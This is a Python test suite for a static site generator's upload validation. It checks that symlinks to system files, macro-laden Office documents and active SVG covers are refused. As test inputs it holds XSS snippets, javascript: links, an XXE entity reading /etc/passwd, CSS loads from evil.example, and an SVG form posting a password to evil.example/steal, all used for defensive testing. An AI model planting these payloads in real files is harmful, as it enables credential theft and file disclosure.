"""Files from outside the project, and active files, are never published; editors' litter is ignored.

Builds of a real project assert on the messages and on what reaches ``site/``; the type checks themselves are
also tried one by one on files written here, without a build.
"""

from __future__ import annotations

import io
import os
import shutil
import struct
import textwrap
import zipfile
import zlib
from pathlib import Path

import pytest
from conftest import FILES, Project, make_project, picture_bytes
from mkdocs.config import load_config
from mkdocs.structure.files import get_files

from generator.core.uploads import asset_problem, is_litter, link_problem, published_file_problems
from generator.mkdocs.plugin import GeneratorPlugin

MEETING = "data/meetings/2024-08-27-sekciya-omo.yml"
PRACTICE = "data/practices/vystavka.yml"
PLAN = "files/2024-08-27/plan.pdf"
SECRET = "omo-test-secret-4f1c9a"  # put into the build's environment: it must never be published


# Small real files --------------------------------------------------------------

PDF = (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\n"
       b"endobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
JPEG = picture_bytes("JPEG")
GIF = picture_bytes("GIF")
MP3 = b"ID3\x03\x00\x00\x00\x00\x00\x00" + b"\xff\xfb\x90\x00" + bytes(413)
MP4 = struct.pack(">I", 24) + b"ftypisom" + b"\x00\x00\x02\x00isommp41" + struct.pack(">I", 8) + b"free"
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00/\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00"
HTML = b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n"
PLAIN_SVG = """\
    <?xml version="1.0" encoding="UTF-8"?>
    <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20">
      <!-- Inkscape-style gradient, reused shape and an embedded picture -->
      <defs><linearGradient id="g"><stop offset="0" stop-color="#1a237e"/></linearGradient>
      <rect id="r" width="10" height="10"/></defs>
      <rect width="20" height="20" style="fill:url(#g);stroke:#000" fill="url('#g')"/>
      <use xlink:href="#r"/><use href="#r" x="5"/>
      <image width="1" height="1" href="data:image/png;base64,iVBORw0KGgo="/>
      <text x="2" y="18">Память</text>
    </svg>
    """


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b""))


def zipped(members: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in members.items():
            archive.writestr(name, text, zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def ooxml(main: str, content_type: str, *extra: str) -> bytes:
    """A Word/Excel/PowerPoint file: the package's content types name its main part."""
    types = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
             'content-types"><Default Extension="xml" ContentType="application/xml"/>'
             f'<Override PartName="/{main}" ContentType="application/{content_type}"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            f'relationships/officeDocument" Target="{main}"/></Relationships>')
    return zipped({"[Content_Types].xml": types, "_rels/.rels": rels, main: "<document/>",
                   **{name: "x" for name in extra}})


def docx(*extra: str) -> bytes:
    return ooxml("word/document.xml", "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", *extra)


def odf(kind: str, *extra: str) -> bytes:
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                'opendocument:xmlns:manifest:1.0" manifest:version="1.2"/>')
    return zipped({"mimetype": f"application/vnd.oasis.opendocument.{kind}", "content.xml": "<office/>",
                   "META-INF/manifest.xml": manifest, **{name: "x" for name in extra}})


def ole(*streams: str) -> bytes:
    """A compound file as Office 97–2003 writes it ([MS-CFB], version 3), with empty streams of these names."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9, 6)  # versions, byte order, sector sizes
    struct.pack_into("<IIII", header, 0x2C, 1, 1, 0, 4096)  # one FAT sector; directory in sector 1
    struct.pack_into("<IIII", header, 0x3C, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)  # no mini FAT, no extra DIFAT
    struct.pack_into("<109I", header, 0x4C, 0, *[0xFFFFFFFF] * 108)  # the FAT is sector 0
    fat = struct.pack("<128I", 0xFFFFFFFD, 0xFFFFFFFE, *[0xFFFFFFFF] * 126)

    def entry(name: str, kind: int) -> bytes:
        raw = bytearray(128)
        encoded = (name + "\0").encode("utf-16-le")
        raw[:len(encoded)] = encoded
        struct.pack_into("<HB", raw, 0x40, len(encoded), kind)
        return bytes(raw)

    directory = b"".join([entry("Root Entry", 5), *(entry(name, 2) for name in streams)])
    return bytes(header) + fat + directory.ljust(512, b"\0")


def line_of(relative: str, needle: str) -> int:
    """The line of ``needle`` in one of the test project's files, counted from 1."""
    lines = textwrap.dedent(FILES[relative]).splitlines()
    return next(number for number, line in enumerate(lines, 1) if needle in line)


def site_files(project: Project) -> dict[str, bytes]:
    site = project.root / "site"
    return {path.relative_to(site).as_posix(): path.read_bytes() for path in site.rglob("*") if path.is_file()}


def assert_nothing_published(project: Project) -> None:
    assert not site_files(project), "a failed build must not write the site"


@pytest.fixture
def secret(monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setenv("OMO_TEST_TOKEN", SECRET)
    return SECRET


# Links -------------------------------------------------------------------------

class TestLinks:
    def test_material_linked_to_the_environment_is_refused_with_its_record(self, project: Project,
                                                                           secret: str) -> None:
        (project.root / "content" / PLAN).unlink()
        (project.root / "content" / PLAN).symlink_to("/proc/self/environ")
        result = project.build()
        assert result.returncode != 0
        line = line_of(MEETING, f"file: {PLAN}")
        assert (f"{MEETING}:{line}: program[1].materials[1].file: content/{PLAN} — символическая ссылка"
                in result.stderr)
        assert f"{PRACTICE}:{line_of(PRACTICE, PLAN)}: materials[1].file: content/{PLAN} — " in result.stderr
        assert "положите в папку сам файл" in result.stderr
        assert_nothing_published(project)
        assert secret not in result.stdout + result.stderr

    @pytest.mark.parametrize(("link", "target", "message"), [
        ("content/files/secret.pdf", "/proc/self/environ", "content/files/secret.pdf: символическая ссылка, а не файл"),
        ("content/files/shared", "/etc", "content/files/shared: символическая ссылка на папку"),
        ("content/notes.md", "/etc/hostname", "content/notes.md: символическая ссылка"),
        ("data/practices/chuzhaya.yml", "OUTSIDE/practice.yml", "data/practices/chuzhaya.yml: символическая ссылка"),
        ("data/practices", "OUTSIDE", "data/practices: символическая ссылка на папку"),
        ("data", "OUTSIDE", "data: символическая ссылка на папку"),
    ])
    def test_unreferenced_links_are_refused(self, project: Project, tmp_path_factory: pytest.TempPathFactory,
                                            secret: str, link: str, target: str, message: str) -> None:
        outside = tmp_path_factory.mktemp("outside")
        (outside / "practice.yml").write_text(textwrap.dedent(FILES[PRACTICE]), encoding="utf-8")
        path = project.root / link
        if path.is_dir():
            shutil.rmtree(path)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target.replace("OUTSIDE", str(outside)))
        result = project.build()
        assert result.returncode != 0
        assert message in result.stderr
        assert_nothing_published(project)
        assert secret not in result.stdout + result.stderr

    def test_link_problem(self, tmp_path: Path) -> None:
        (tmp_path / "content" / "files").mkdir(parents=True)
        (tmp_path / "content" / "files" / "plan.pdf").write_bytes(PDF)
        (tmp_path / "content" / "linked").symlink_to(tmp_path / "content" / "files")
        (tmp_path / "content" / "files" / "env.pdf").symlink_to("/proc/self/environ")
        assert link_problem(tmp_path / "content" / "files" / "plan.pdf", tmp_path) is None
        assert link_problem(tmp_path / "content" / "files" / "missing.pdf", tmp_path) is None
        assert "символическая ссылка" in link_problem(tmp_path / "content" / "files" / "env.pdf", tmp_path)
        through = link_problem(tmp_path / "content" / "linked" / "plan.pdf", tmp_path)
        assert "папка content/linked — ссылка на другую папку" in through
        assert "вне папки проекта" in link_problem(tmp_path / ".." / "etc" / "passwd", tmp_path)

    def test_plugin_leaves_links_and_litter_out_of_the_site(self, project: Project) -> None:
        # The second guard: even when the content check is not run (`mkdocs serve` after an error).
        (project.root / "content/files/env.pdf").symlink_to("/proc/self/environ")
        (project.root / "content/linked").symlink_to(project.root / "content/files")
        project.write("content/files/~$plan.docx", b"x")
        project.write("content/.DS_Store", b"x")
        config = load_config(str(project.root / "mkdocs.yml"))
        kept = {file.src_uri for file in GeneratorPlugin().on_files(get_files(config), config)}
        assert PLAN in kept and "images/cover.svg" in kept
        assert not {"files/env.pdf", "files/~$plan.docx", ".DS_Store"} & kept
        assert not any(uri.startswith("linked/") for uri in kept)


# Types -------------------------------------------------------------------------

class TestMaterialTypes:
    @pytest.mark.parametrize(("name", "content", "message"), [
        ("files/2024-08-27/plan.html", HTML, "файлы .html не публикуются: материалы — PDF, DOCX"),
        ("files/2024-08-27/plan.pdf", HTML, "файл не похож на PDF: по содержимому это HTML-страница"),
        ("files/2024-08-27/plan.js", b"alert(1)\n", "файлы .js не публикуются"),
        ("files/2024-08-27/plan.pdf", docx(), "файл не похож на PDF: по содержимому это DOCX"),
        ("files/2024-08-27/plan.docx", docx("word/vbaProject.bin"), "DOCX с макросами не публикуется"),
    ])
    def test_refused_material_names_its_record(self, project: Project, name: str, content: bytes,
                                               message: str) -> None:
        project.write(f"content/{name}", content)
        project.write(MEETING, FILES[MEETING].replace(PLAN, name))
        result = project.build()
        assert result.returncode != 0
        line = line_of(MEETING, f"file: {PLAN}")
        assert f"{MEETING}:{line}: program[1].materials[1].file: content/{name} — {message}" in result.stderr
        assert_nothing_published(project)

    def test_unreferenced_active_file_is_refused(self, project: Project) -> None:
        project.write("content/files/page.html", HTML)
        project.write("content/files/app.exe", b"MZ\x90\x00")
        project.write("content/README", "text\n")
        result = project.build()
        assert result.returncode != 0
        assert "content/files/page.html: файлы .html не публикуются: кроме страниц .md" in result.stderr
        assert "content/files/app.exe: файлы .exe не публикуются" in result.stderr
        assert "content/README: файлы без расширения не публикуются" in result.stderr

    def test_cover_must_be_a_picture(self, project: Project) -> None:
        project.write("content/images/cover.pdf", PDF)
        project.write(PRACTICE, FILES[PRACTICE].replace("images/cover.svg", "images/cover.pdf"))
        result = project.build()
        line = line_of(PRACTICE, "cover:")
        assert (f"{PRACTICE}:{line}: cover: content/images/cover.pdf — здесь нужна картинка, а PDF — не картинка: "
                "картинки — JPEG, PNG, WebP, GIF или SVG") in result.stderr

    @pytest.mark.parametrize(("kind", "name", "content", "message"), [
        ("material", "a.pdf", PDF, None),
        ("material", "a.pdf", b"%PDF-1.4 test\n", None),
        ("material", "a.docx", docx(), None),
        ("material", "a.xlsx", ooxml("xl/workbook.xml", "vnd.openxmlformats-officedocument.spreadsheetml.sheet"
                                                          ".main+xml"), None),
        ("material", "a.pptx", ooxml("ppt/presentation.xml", "vnd.openxmlformats-officedocument.presentationml"
                                                               ".presentation.main+xml"), None),
        ("material", "a.odt", odf("text"), None),
        ("material", "a.ods", odf("spreadsheet"), None),
        ("material", "a.odp", odf("presentation"), None),
        ("material", "a.doc", ole("WordDocument", "SummaryInformation"), None),
        ("material", "a.xls", ole("Workbook"), None),
        ("material", "a.ppt", ole("PowerPoint Document"), None),
        ("material", "a.mp3", MP3, None),
        ("material", "a.mp4", MP4, None),
        ("material", "скан.JPG", JPEG, None),
        ("image", "a.png", png(), None),
        ("image", "a.webp", WEBP, None),
        ("image", "a.gif", GIF, None),
        ("material", "a.doc", ole("WordDocument", "Macros"), "DOC с макросами не публикуется"),
        ("material", "a.xls", ole("Workbook", "_VBA_PROJECT_CUR"), "XLS с макросами не публикуется"),
        ("material", "a.doc", ole("EncryptedPackage"), "по содержимому это документ Office, защищённый паролем"),
        ("material", "a.xls", ole("WordDocument"), "файл не похож на XLS: по содержимому это DOC"),
        ("material", "a.docx", ooxml("word/document.xml", "vnd.ms-word.document.macroEnabled.main+xml"),
         "по содержимому это документ Word с макросами (DOCM)"),
        ("material", "a.odt", odf("text", "Basic/Standard/Module1.xml"), "ODT с макросами не публикуется"),
        ("material", "a.odt", odf("spreadsheet"), "файл не похож на ODT: по содержимому это ODS; переименуйте"),
        ("material", "a.docx", zipped({"index.html": "<html>"}), "по содержимому это ZIP-архив"),
        ("material", "a.docx", b"PK\x03\x04broken", "повреждённый"),
        ("material", "a.pdf", b"{\\rtf1\\ansi text}", "по содержимому это документ RTF"),
        ("material", "a.mp4", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00", "картинка HEIC или AVIF"),
        ("image", "a.jpg", png(), "файл не похож на JPEG: по содержимому это картинка PNG; переименуйте файл: его "
                                  "расширение .png"),
        ("image", "a.png", HTML, "по содержимому это HTML-страница"),
        ("image", "a.mp4", MP4, "здесь нужна картинка"),
        ("material", "a.docm", docx(), "файлы .docm не публикуются"),
        *[("any", f"a.{ext}", HTML, f"файлы .{ext} не публикуются") for ext in
          ("html", "htm", "xhtml", "js", "mjs", "svgz", "xml", "php", "exe", "swf", "txt", "css", "rtf")],
        ("any", "README", b"text", "файлы без расширения не публикуются"),
        ("material", "a.pdf", b"", "файл пуст"),
    ])
    def test_asset_problem(self, tmp_path: Path, kind: str, name: str, content: bytes, message: str | None) -> None:
        path = tmp_path / name
        path.write_bytes(content)
        problem = asset_problem(path, kind)
        if message is None:
            assert problem is None
        else:
            assert problem is not None and message in problem, problem


# SVG -----------------------------------------------------------------------------

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>\n'


class TestSvg:
    @pytest.mark.parametrize(("svg", "reason"), [
        (SVG.format("<script>alert(1)</script>"), "в файле есть скрипт (<script>)"),
        (SVG.format('<rect width="5" height="5" onclick="alert(1)"/>'), "обработчик события onclick"),
        ('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "обработчик события onload"),
        (SVG.format('<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>'),
         "вставка HTML (<foreignObject>)"),
        (SVG.format('<image xlink:href="https://evil.example/track.png"/>'),
         "ссылка на внешний файл или сайт «https://evil.example/track.png»"),
        (SVG.format('<use href="other.svg#icon"/>'), "ссылка на внешний файл или сайт «other.svg#icon»"),
        (SVG.format('<image href="data:image/svg+xml;base64,PHN2Zz4="/>'), "ссылка на внешний файл или сайт"),
        ('<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
         '<svg xmlns="http://www.w3.org/2000/svg"><text>&secret;</text></svg>\n', "<!DOCTYPE …> или <!ENTITY …>"),
        (SVG.format('<a href="javascript:alert(1)"><text>x</text></a>'), "javascript:"),
        (SVG.format('<a href="java&#x0A;script:alert(1)"><text>x</text></a>'), "javascript:"),
        (SVG.format("<style>@import url(https://evil.example/x.css);</style>"), "@import"),
        (SVG.format('<rect style="fill:url(https://evil.example/p.svg#g)"/>'), "внешний ресурс url(…)"),
        (SVG.format('<rect style="background:u\\72l(x)"/>'), "обратная косая черта"),
        (SVG.format('<set attributeName="xlink:href" to="#x"/>'), "анимация <set> меняет href"),
        (SVG.format('<animate attributeName="href" values="#a;#b"/>'), "анимация <animate> меняет href"),
        (SVG.format("<iframe/>"), "встроенный объект (<iframe>)"),
        ('<?xml-stylesheet href="https://evil.example/x.css"?>\n' + SVG.format(""), "<?xml-stylesheet …?>"),
        (SVG.format("<rect>"), "файл SVG повреждён: это не правильный XML (ошибка в строке 1)"),
        ("<html><body><svg></svg></body></html>", "по содержимому это HTML-страница"),
    ])
    def test_active_cover_is_refused(self, project: Project, svg: str, reason: str) -> None:
        project.write("content/images/cover.svg", svg.encode())
        result = project.build()
        assert result.returncode != 0
        line = line_of(PRACTICE, "cover:")
        assert f"{PRACTICE}:{line}: cover: content/images/cover.svg — " in result.stderr
        assert reason in result.stderr
        assert_nothing_published(project)

    @pytest.mark.parametrize("svg", [
        SVG.format("<script>alert(1)</script>"),
        SVG.format('<g><rect onmouseover="alert(1)"/></g>'),
        SVG.format('<a xlink:href="https://example.org"><text>x</text></a>'),
    ])
    def test_unreferenced_active_svg_is_refused(self, tmp_path: Path, svg: str) -> None:
        (tmp_path / "content" / "images").mkdir(parents=True)
        (tmp_path / "content" / "images" / "logo.svg").write_text(svg, encoding="utf-8")
        problems = published_file_problems(tmp_path, tmp_path / "content", tmp_path / "data")
        assert [(p.path, p.line, p.field) for p in problems] == [("content/images/logo.svg", 0, "")]
        assert problems[0].message.startswith("SVG не публикуется: ")

    @pytest.mark.parametrize(("svg", "reason"), [
        # Opened as a page of the site, these load other hosts or show a form that posts to one.
        (SVG.format("<rect style=\"fill:red;background-image:image-set('https://evil.example/a.png' 1x)\"/>"),
         "внешний ресурс (image-set(…))"),
        (SVG.format('<style>rect{mask-image:-webkit-image-set("https://evil.example/d.png" 1x)}</style>'),
         "внешний ресурс (image-set(…))"),
        (SVG.format('<rect fill="image(\'https://evil.example/i.png\')"/>'), "внешний ресурс (image(…))"),
        ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml"><h:form '
         'action="https://evil.example/steal"><h:input name="password" type="password"/></h:form></svg>',
         "элемент HTML <form>"),
        ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml">'
         '<h:img srcset="https://evil.example/c.png 1x"/></svg>', "элемент HTML <img>"),
        ('<svg xmlns="http://www.w3.org/2000/svg"><math xmlns="http://www.w3.org/1998/Math/MathML" '
         'href="https://evil.example/"><mi>x</mi></math></svg>', "элемент MathML <math>"),
        ('<svg xmlns="http://www.w3.org/1999/xhtml"><form action="https://evil.example/x"><input name="q"/></form>'
         "</svg>", "файл не похож на SVG"),
    ])
    def test_svg_that_loads_or_posts_elsewhere_is_refused(self, tmp_path: Path, svg: str, reason: str) -> None:
        path = tmp_path / "drawing.svg"
        path.write_text(svg, encoding="utf-8")
        problem = asset_problem(path, "any")
        assert problem is not None and reason in problem, problem

    def test_inkscape_metadata_is_accepted(self, tmp_path: Path) -> None:
        path = tmp_path / "inkscape.svg"
        path.write_text('<svg xmlns="http://www.w3.org/2000/svg" '
                        'xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" '
                        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
                        '<sodipodi:namedview pagecolor="#ffffff"/><metadata><rdf:RDF/></metadata>'
                        '<rect width="5" height="5"/></svg>', encoding="utf-8")
        assert asset_problem(path, "any") is None

    def test_plain_svg_is_accepted(self, tmp_path: Path) -> None:
        path = tmp_path / "plain.svg"
        path.write_text(textwrap.dedent(PLAIN_SVG), encoding="utf-8")
        assert asset_problem(path, "image") is None


# What a good build publishes -------------------------------------------------------

ACCEPTED = {
    "files/2024-08-27/polozhenie.pdf": PDF,
    "files/2024-08-27/foto.png": png(),
    "files/2024-08-27/foto.jpg": JPEG,
    "files/2024-08-27/programma.docx": docx(),
    "files/2024-08-27/programma.odt": odf("text"),
    "files/2024-08-27/programma.doc": ole("WordDocument"),
    "files/2024-08-27/zapis.mp3": MP3,
}
LITTER = [".DS_Store", "files/Thumbs.db", "files/desktop.ini", "files/~$programma.docx", "files/.~lock.plan.odt#",
          "x.md~", "files/plan.pdf.swp", "stories/.2024-08-28-itogi.md.swo", "files/upload.tmp", ".git-keep/x.pdf"]


@pytest.fixture(scope="class")
def accepted(tmp_path_factory: pytest.TempPathFactory) -> Project:
    """The test project with every allowed kind of material, a plain SVG cover and editors' litter."""
    project = make_project(tmp_path_factory.mktemp("accepted"))
    materials = "".join(f"  - title: Материал {number}\n    file: {name}\n"
                        for number, name in enumerate(ACCEPTED, 1))
    project.write(MEETING, textwrap.dedent(FILES[MEETING]).replace(
        "materials:\n  - title: Видеозапись", f"materials:\n{materials}  - title: Видеозапись"))
    for name, content in ACCEPTED.items():
        project.write(f"content/{name}", content)
    project.write("content/images/cover.svg", textwrap.dedent(PLAIN_SVG))
    for name in LITTER:
        project.write(f"content/{name}", b"litter")
    result = project.build()
    assert result.returncode == 0, result.stderr
    return project


class TestAccepted:
    def test_allowed_materials_are_published_unchanged(self, accepted: Project) -> None:
        published = site_files(accepted)
        for name, content in ACCEPTED.items():
            assert published[name] == content, name
        assert published[PLAN] == b"%PDF-1.4 test\n"
        page = accepted.html("meetings/2024-08-27-sekciya-omo").get_text(" ")
        assert "Материал 7" in page

    def test_plain_svg_cover_is_published(self, accepted: Project) -> None:
        assert site_files(accepted)["images/cover.svg"] == textwrap.dedent(PLAIN_SVG).encode()

    def test_litter_is_ignored_and_not_published(self, accepted: Project) -> None:
        published = site_files(accepted)
        for name in LITTER:
            assert name not in published, name
        assert not [name for name in published if Path(name).name.startswith(("~$", ".~lock")) or name.endswith("~")]

    @pytest.mark.parametrize("name", ["~$doc.docx", ".~lock.x#", "x.md~", ".DS_Store", "Thumbs.db", "desktop.ini",
                                      ".x.swp", "a.swo", "upload.tmp", ".github"])
    def test_is_litter(self, name: str) -> None:
        assert is_litter(name)

    @pytest.mark.parametrize("name", ["plan.pdf", "index.md", "2024-08-28-itogi.md", "~plan.pdf", "a.tmp.pdf"])
    def test_is_not_litter(self, name: str) -> None:
        assert not is_litter(name)


def test_example_site_files_are_accepted() -> None:
    root = Path(__file__).resolve().parent.parent
    problems = published_file_problems(root, root / "content", root / "data")
    assert problems == []
    assert os.path.isfile(root / "content/images/practices/pamyat-pokoleniy.svg")


def test_files_whose_names_differ_only_in_capitals_or_in_how_letters_are_coded_are_both_named(
        project: Project) -> None:
    # Both would be published here; on Windows, macOS and many servers one replaces the other.
    for name in ("files/t/otchet.pdf", "files/t/OTCHET.pdf", "files/t/\u043e\u0442\u0447\u0451\u0442.pdf",
                 "files/t/\u043e\u0442\u0447\u0435\u0308\u0442.pdf", "files/T/plan.pdf", "files/t/plan.pdf"):
        project.write(f"content/{name}", PDF)
    project.write("data/practices/Vystavka.yml", textwrap.dedent(FILES[PRACTICE]))
    result = project.build()
    assert result.returncode != 0
    case = "различаются только заглавными и строчными буквами: в Windows, macOS и на многих серверах это один файл"
    for names in (("content/files/t/OTCHET.pdf", "content/files/t/otchet.pdf"),
                  ("content/files/T/plan.pdf", "content/files/t/plan.pdf"),
                  ("data/practices/Vystavka.yml", "data/practices/vystavka.yml")):
        for name in names:
            assert f"{name}: {' и '.join(names)} {case}" in result.stderr
    decomposed = "content/files/t/\u043e\u0442\u0447\u0435\u0308\u0442.pdf"
    composed = "content/files/t/\u043e\u0442\u0447\u0451\u0442.pdf"
    for name in (decomposed, composed):
        assert (f"{name}: {decomposed} и {composed} выглядят одинаково, но в {decomposed} буквы вроде «ё» и «й» "
                "записаны двумя знаками" in result.stderr)
    assert_nothing_published(project)
